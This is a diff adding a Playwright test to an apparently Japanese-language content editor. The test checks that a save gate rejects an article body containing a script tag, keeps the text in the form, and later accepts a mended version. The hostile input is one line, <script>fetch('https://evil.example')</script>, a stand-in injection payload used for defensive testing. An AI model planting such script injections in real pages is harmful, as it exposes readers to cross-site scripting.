@@ -143,6 +143,35 @@ test('what is typed into the text is what is written, components and all', { tim
   await expect.poll(() => fileInClone(path), { timeout: 15_000 }).toContain(added)
 })
 
+test('what the gate refuses is not saved, is told in the language of the page, and stays in the form', {
+  timeout: 60_000,
+}, async () => {
+  const path = 'content/articles/ja/account/locked-out.mdx'
+  await openEntry(path)
+  await seeAll()
+  const text = page.getByRole('textbox', { name: '本文' })
+  const hostile = `${await text.inputValue()}\n\n<script>fetch('https://evil.example')</script>`
+  await text.fill(hostile)
+  await save()
+  const dialogue = page.getByRole('alertdialog').filter({ hasText: '保存していません' })
+  await dialogue.waitFor()
+  expect(await dialogue.textContent()).toMatch(/本文 \d+行目「<script>fetch.*script/)
+  await dialogue.getByRole('button').first().click()
+  expect(await text.inputValue()).toBe(hostile)
+  expect(await fileInClone(path)).toBe(sources.get(path))
+  const notes = page.locator('#sodate-notes')
+  expect(await notes.getAttribute('lang')).toBe('ja')
+  expect(await notes.locator('script').count()).toBe(0)
+  // Mended, it is saved, and what only a warning says is told.
+  await text.fill(`${sources.get(path)?.split('\n---\n')[1]?.trim()}\n\n１２３を押します。`)
+  await save()
+  await expect.poll(() => fileInClone(path), { timeout: 15_000 }).toContain('１２３を押します。')
+  expect(await notes.locator('h2').textContent()).toContain('保存はできます')
+  expect(await notes.locator('li').allInnerTexts()).toEqual([expect.stringContaining('「１２３」は「123」')])
+  await notes.getByRole('button', { name: '閉じる' }).click()
+  expect(await notes.count()).toBe(0)
+})
+
 test('the form asks for the fields of the schema', { timeout: 60_000 }, async () => {
   await openEntry('content/articles/ja/account/reset-password.mdx')
   await seeAll()
